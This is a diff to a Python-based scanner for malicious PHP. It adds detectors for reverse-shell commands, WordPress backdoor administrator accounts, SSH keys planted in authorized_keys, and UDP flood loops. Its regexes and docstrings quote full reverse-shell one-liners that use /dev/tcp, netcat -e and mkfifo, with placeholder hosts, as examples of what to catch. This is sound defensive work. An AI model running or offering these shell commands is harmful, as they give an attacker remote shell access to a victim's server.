@@ -34,6 +34,7 @@ from spamtrace.scanner.context import (
     bounded_search,
     braced,
     calls_to,
+    close_paren,
     decoded_payloads,
     excerpt,
     feature,
@@ -77,6 +78,48 @@ def _reverse_shell(ctx: Ctx, rule: Rule) -> Hit | None:
     if not prefiltered_search(_SHELL_PATH, string_text(ctx)):
         return None
     return Hit(ctx.line_of_code(sock.start()), ctx.excerpt_code(sock.start(), sock.end() + 60))
+
+
+# a command that ties a shell to a network connection with a system tool: bash's /dev/tcp,
+# netcat given a program to run (-e/-c), a named pipe fed to a shell and to netcat, socat
+# running a program, telnet piped into a shell
+_NET_SHELL = re.compile(
+    rb"/dev/(?:tcp|udp)/|\bn(?:c|cat|etcat)(?:\.\w+)?\b[^\n;|&]{0,80}?\s-[a-z]*[ec]\s*[/\w]|"
+    rb"\bmkfifo\b[^\n]{0,160}?\|\s*(?:/bin/)?n(?:c|cat|etcat)\b|"
+    rb"\bsocat\b[^\n]{0,160}?\bexec:|"
+    rb"\btelnet\b[^\n]{0,80}?\|\s*(?:/bin/)?(?:ba)?sh\b"
+)
+# writes to a process the script started (proc_open's or popen's stdin)
+_PROC_WRITES = (b"fwrite", b"fputs")
+
+
+@feature("network_shell_command")
+def _network_shell_command(ctx: Ctx, rule: Rule) -> Hit | None:
+    """A command that connects a shell to a host with a system tool (a reverse shell without
+    a PHP socket): "bash -i >& /dev/tcp/host/port 0>&1", "nc host port -e /bin/sh", "rm
+    /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc host port >/tmp/f", given to a command
+    call (its literal or a variable set to one), written to the stdin of a process the script
+    started, or run as a backtick command. A literal only listed (a pattern a scanner looks
+    for) runs nothing."""
+    value = ctx.lx.value
+    kinds = ctx.lx.kinds
+    if "bq" in kinds:
+        for idx, raw in enumerate(ctx.lx.raw_strings[:5000]):
+            if kinds[idx] == "bq" and _NET_SHELL.search(raw.lower()) is not None:
+                start = ctx.code.find(b"\x01%d\x01" % idx)
+                return Hit(ctx.line_of_code(max(start, 0)), excerpt(raw))
+    sites = list(calls_to(ctx, EXEC_NAMES_B, 40))
+    if calls_to(ctx, (b"proc_open", b"popen"), 1):
+        sites += calls_to(ctx, _PROC_WRITES, 40)
+    for start, args in sites:
+        text = [args[:600]]
+        for var in sorted(set(VAR.findall(args[:600])))[:8]:  # a variable set to the command
+            text.extend(am.group(0) for _, am in var_assigns(ctx.code, var, _TAIL_ANY, 6))
+        for p in itertools.islice(PLACEHOLDER.finditer(b" ".join(text)), 60):
+            lit = value(int(p.group(1)))
+            if len(lit) < 2000 and _NET_SHELL.search(lit.lower()) is not None:
+                return Hit(ctx.line_of_code(start), excerpt(lit))
+    return None
 
 
 _UPLOAD = re.compile(rb"(move_uploaded_file|copy)\s*\(([^;]{0,300})")
@@ -525,7 +568,7 @@ def _fixed_value(body: bytes, arg: bytes) -> bool:
 # SQL that makes or takes over a WordPress account: a row written into the users table, or
 # a password set there
 _WP_USERS_SQL = re.compile(
-    rb"insert\s+into\s+[`'\"]?\w*users[`'\"]?\s*\(|update\s+[`'\"]?\w*users[`'\"]?\s+set\s+"
+    rb"insert\s+into\s+[`'\"]?(?:\x00|\{?\$\w+\}?)?\w*users[`'\"]?\s*\(|update\s+[`'\"]?\w*users[`'\"]?\s+set\s+"
     rb"[`'\"]?user_pass"
 )
 
@@ -539,15 +582,25 @@ def _wp_users_sql(ctx: Ctx, rule: Rule) -> Hit | None:
     plugins make and change users through its API (wp_insert_user, wp_set_password), on
     the table ``$wpdb->users``, not by a table name written in a query."""
     text = string_text(ctx)
-    if _WP_BOOT.search(text) is None or not has_request_words(ctx):
+    if _WP_BOOT.search(text) is None:
         return None
+    if not has_request_words(ctx) and _SELF_UNLINK.search(ctx.code) is None:
+        return None  # run on a request, or once by a dropper that deletes itself
     m = prefiltered_search(_WP_USERS_SQL, text)
     if m is None:
-        return None
+        # the same row through WordPress's database object: $wpdb->insert($wpdb->users, ...)
+        w = _WPDB_USERS_INSERT.search(ctx.code) if ctx.first(b"insert") >= 0 else None
+        if w is None or b"administrator" not in text:
+            return None
+        return Hit(ctx.line_of_code(w.start()), ctx.excerpt_code(w.start(), w.start() + 100))
     if m.group(0).startswith(b"insert") and b"administrator" not in text:
         return None  # a row without the administrator's capabilities is no backdoor account
     at = string_at(ctx, m.start())
     return Hit(ctx.line_of_string(max(0, at)), excerpt(m.group(0)))
+
+
+_WPDB_USERS_INSERT = re.compile(rb"->\s*insert\s*\(\s*\$wpdb\s*->\s*users\b")
+_SELF_UNLINK = re.compile(rb"unlink\s*\(\s*(?:__file__|\$_server\s*\[\s*\x01\d+\x01\s*\])\s*\)")
 
 
 # code kept as text: a call that makes a WordPress user, with the administrator role
@@ -1206,6 +1259,9 @@ def _from_visitor(ctx: Ctx, expr: bytes, depth: int = 2) -> bool:
         return True
     if depth == 0:
         return False
+    expr = _FIXED_LOOKUP.sub(
+        lambda m: b"''" if _literal_table(ctx, m.group(1)) else m.group(0), expr
+    )
     for var in VAR.findall(expr)[:4]:
         for _pos, m in var_assigns(ctx.code, var, TAIL_RHS, 5):
             if _from_visitor(ctx, m.group(1), depth - 1):
@@ -1219,6 +1275,20 @@ def _from_visitor(ctx: Ctx, expr: bytes, depth: int = 2) -> bool:
             if _from_visitor(ctx, m.group(1), depth - 1):
                 return True
     return False
+
+
+# an element of a table: $backends[$name]
+_FIXED_LOOKUP = re.compile(rb"\$(" + NAME_P + rb")\s*\[[^\]\[;]{0,80}\]")
+# a table written in the code: array('a' => 'tcp://10.0.0.5:80', ...) or [...]
+_LITERAL_TABLE = re.compile(rb"\s*(?:array\s*\(|\[)(?:[^;$()]|\(\s*\))*\)?\]?\s*$")
+
+
+def _literal_table(ctx: Ctx, var: bytes) -> bool:
+    """``$var`` is only ever set to a table of literals (``$backends = array('api' =>
+    'tcp://10.0.0.5:8080')``): an element looked up by the visitor's key is one of the
+    values the code wrote, not the visitor's own (a health check of named services)."""
+    sets = [m.group(1) for _, m in var_assigns(ctx.code, var, TAIL_RHS, 5)]
+    return bool(sets) and all(_LITERAL_TABLE.match(rhs) is not None for rhs in sets)
 
 
 def _server_header(ctx: Ctx, expr: bytes) -> bool:
@@ -1476,4 +1546,83 @@ def _wp_password_sent(ctx: Ctx, rule: Rule) -> Hit | None:
                 for f in _LOGIN_FIELD.finditer(args)
             ):
                 return Hit(ctx.line_of_code(m.start()), ctx.excerpt_code(m.start(), m.start() + 80))
+    return None
+
+
+_OPEN_HANDLE = re.compile(
+    rb"\$(" + NAME_P + rb")\s*=\s*@?\s*fopen\s*\(([^;]{1,300}?),\s*\x01(\d+)\x01"
+)
+
+
+def _path_holds(ctx: Ctx, expr: bytes, word: bytes) -> bool:
+    """A path expression names ``word``: in a literal of its own, or of a variable it is
+    built from (``$t = $home . '/.ssh/authorized_keys'; file_put_contents($t, ...)``)."""
+    value = ctx.lx.value
+    if any(value(int(i)).lower().find(word) >= 0 for i in PLACEHOLDER.findall(expr)):
+        return True
+    for var in VAR.findall(expr)[:4]:
+        for _, m in var_assigns(ctx.code, var, TAIL_RHS, 5):
+            if any(value(int(i)).lower().find(word) >= 0 for i in PLACEHOLDER.findall(m.group(1))):
+                return True
+    return False
+
+
+@feature("ssh_key_planted")
+def _ssh_key_planted(ctx: Ctx, rule: Rule) -> Hit | None:
+    """A key written into the account's ``~/.ssh/authorized_keys`` (file_put_contents, or
+    fopen for writing or appending and fwrite): whoever holds the key logs in over SSH as
+    the site's user, whatever the password, after the PHP backdoor is found and deleted. A
+    hosting panel lists the keys; it does not add one from a web page's script."""
+    if string_text(ctx).find(b"authorized_keys") < 0:
+        return None
+    for start, args in calls_to(ctx, (b"file_put_contents",), 20):
+        parts = top_args(args)
+        if len(parts) >= 2 and _path_holds(ctx, parts[0], b"authorized_keys"):
+            return Hit(ctx.line_of_code(start), ctx.excerpt_code(start, start + 100))
+    for m in itertools.islice(_OPEN_HANDLE.finditer(ctx.code), 20):
+        mode = ctx.lx.value(int(m.group(3)))[:1]
+        if mode in (b"w", b"a", b"x", b"c") and _path_holds(ctx, m.group(2), b"authorized_keys"):
+            for _, wargs in calls_to(ctx, (b"fwrite", b"fputs"), 20):
+                if wargs.lstrip().startswith(b"$" + m.group(1)):
+                    at = m.start()
+                    return Hit(ctx.line_of_code(at), ctx.excerpt_code(at, at + 100))
+    return None
+
+
+_LOOP_AT = re.compile(rb"\b(?:while|for)\s*\(")
+_CLOCK = re.compile(rb"(?<![\w$>:])(?:micro)?time\s*\(|\btrue\b|^\s*1\s*$|^\s*;\s*;\s*$")
+_UDP_OPEN = re.compile(
+    rb"(?:fsockopen|pfsockopen|stream_socket_client)\s*\(\s*\x01(\d+)\x01\s*\.?\s*([^,)]{0,80})"
+)
+_SENDTO = re.compile(rb"socket_sendto\s*\(")
+
+
+@feature("udp_flood")
+def _udp_flood(ctx: Ctx, rule: Rule) -> Hit | None:
+    """Datagrams sent over and over, for a time or for ever (``while (time() < $end)``,
+    ``while (true)``), to a host the visitor names: a UDP flood, the DDoS tool of a botnet
+    of hacked sites. A metrics client sends one datagram per event to a host of its
+    settings."""
+    code = ctx.code
+    value = ctx.lx.value
+    for m in itertools.islice(prefiltered_finditer(_LOOP_AT, code, ctx.first), 40):
+        head_end = m.end() + close_paren(code[m.end() : m.end() + 600])
+        cond = code[m.end() : head_end]
+        if _CLOCK.search(cond) is None and not _from_visitor(ctx, cond):
+            continue  # for a time, for ever, or as many times as the visitor says
+        brace = code.find(b"{", head_end, head_end + 4)
+        if brace < 0:
+            continue
+        body = braced(code, brace)
+        for u in _UDP_OPEN.finditer(body):
+            if value(int(u.group(1))).strip().lower().startswith(b"udp://") and _from_visitor(
+                ctx, u.group(2)
+            ):
+                at = m.start()
+                return Hit(ctx.line_of_code(at), ctx.excerpt_code(at, at + 100))
+        for s in _SENDTO.finditer(body):
+            parts = top_args(body[s.end() : s.end() + close_paren(body[s.end() : s.end() + 400])])
+            if len(parts) >= 5 and _from_visitor(ctx, parts[4]):
+                at = m.start()
+                return Hit(ctx.line_of_code(at), ctx.excerpt_code(at, at + 100))
     return None
